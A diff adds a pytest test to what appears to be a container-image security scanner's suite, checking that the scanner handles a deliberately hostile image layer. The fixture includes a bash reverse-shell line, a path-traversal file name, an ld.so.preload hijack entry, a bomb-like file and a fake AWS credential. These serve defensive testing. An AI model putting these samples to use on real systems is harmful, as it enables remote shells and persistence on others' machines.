@@ -273,3 +273,22 @@ def test_cli_answers_bad_input_with_one_line_and_writes_nothing(tmp_path: Path) 
     assert proc.returncode == 0, proc.stderr
     after = sorted(p.name for p in tmp_path.rglob("*") if "cache" not in p.parts)
     assert [p for p in after if p not in before] == []
+
+
+def test_image_scan_with_every_scanner_survives_hostile_layers(tmp_path: Path) -> None:
+    """`lashing image` runs secrets, malware and hygiene over every file: escaping paths, links and a
+    compression bomb-like member must still end in a report or one line, never a traceback."""
+    hostile = tmp_path / "hostile"
+    build_oci_layout(hostile, [LayerSpec([
+        Member("../../escape.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
+        Member("etc/ld.so.preload", b"/tmp/.x/evil.so\n"),
+        Member("srv/zeros.bin", b"\0" * (4 * 1024 * 1024)),
+        Member("root/.aws/credentials", b"[default]\naws_access_key_id = AKIAZ3MSJV4WXQ7B2N5K\n"),
+    ])])  # fmt: skip
+    proc = _cli("image", str(hostile), "--scanners", "secret,malware,config", "--format", "json",
+                cwd=tmp_path, env_cache=tmp_path / "cache")
+    assert proc.returncode == 0, proc.stderr
+    assert "Traceback" not in proc.stderr
+    ids = {f["id"] for f in json.loads(proc.stdout)["findings"]}
+    assert {"LSH-MAL-LD-PRELOAD", "LSH-SECRET-AWS-ACCESS-KEY"} <= ids
+    assert not (tmp_path.parent / "escape.sh").exists()
